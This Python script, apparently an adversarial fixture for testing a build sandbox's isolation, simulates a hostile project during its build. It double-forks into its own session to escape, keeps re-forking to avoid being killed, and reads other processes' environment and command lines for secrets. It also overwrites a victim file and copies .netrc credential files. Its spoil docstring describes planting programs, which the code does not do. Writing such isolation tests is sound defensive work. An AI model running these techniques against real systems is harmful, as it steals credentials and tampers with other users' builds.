"""What a hostile project runs in the builder: it gets away from its build, waits for others, takes or spoils theirs.

    python attacker.py CAMP       goes into the background, whatever it is started by, and works from the directory CAMP
    python attacker.py CAMP take  prints as JSON what was won: what of it is still there, and who is still running

Only the standard library; run as a command, from an sdist's build, or imported by a handler.
"""

# ruff: noqa: PTH103, PTH112, PTH118, PTH123, PTH208

from __future__ import annotations

import contextlib
import json
import os
import sys
import time

LASTS_S = 120.0
MARK = "lambdasmith-attacker"
SECRET = b"TEAM_" + b"SECRET="
TARGET = "victim.txt"


def vanish(camp: str) -> None:
    """Return at once; a grandchild in a session of its own works on."""
    if os.fork():
        os.wait()
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for descriptor in range(64):
        with contextlib.suppress(OSError):
            os.close(descriptor)
    with contextlib.suppress(BaseException):
        lurk(camp)
    os._exit(0)


def lurk(camp: str) -> None:
    end, number = time.monotonic() + LASTS_S, 0
    while time.monotonic() < end:
        number += 1
        os.makedirs(camp, exist_ok=True)
        with open(os.path.join(camp, f"alive-{os.getpid()}"), "w") as file:
            file.write(str(number))
        look_into_processes(camp)
        spoil("/tmp")
        # Whoever only ends what exists now misses the next one.
        if number % 20 == 0 and os.fork():
            os._exit(0)
        time.sleep(0.005)


def look_into_processes(camp: str) -> None:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for what in ("environ", "cmdline"):
            with contextlib.suppress(OSError), open(f"/proc/{pid}/{what}", "rb") as file:
                data = file.read()
                if SECRET in data:
                    with open(os.path.join(camp, f"loot-{what}-{pid}"), "wb") as loot:
                        loot.write(data)


def spoil(root: str) -> None:
    """Overwrite the victim's files, and put a program into every place of tools and caches."""
    for folder, _, files in os.walk(root):
        for name in files:
            with contextlib.suppress(OSError):
                if name == TARGET:
                    with open(os.path.join(folder, name), "w") as file:
                        file.write("spoiled")
                if name == ".netrc":
                    with open(os.path.join(folder, name), "rb") as file:
                        loot = file.read()
                    with open(os.path.join(os.environ.get("CAMP", "/tmp"), "loot-netrc"), "wb") as taken:
                        taken.write(loot)


def won(camp: str) -> dict[str, object]:
    running = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError), open(f"/proc/{pid}/cmdline", "rb") as file:
            if MARK.encode() in file.read() and int(pid) not in (os.getpid(), os.getppid()):
                running.append(pid)
    return {
        "camp": sorted(os.listdir(camp)) if os.path.isdir(camp) else [],
        "running": running,
        "temporary": sorted(os.listdir("/tmp")),
    }


if __name__ == "__main__":
    if sys.argv[2:3] == ["take"]:
        print(json.dumps(won(sys.argv[1])))
    else:
        vanish(sys.argv[1])
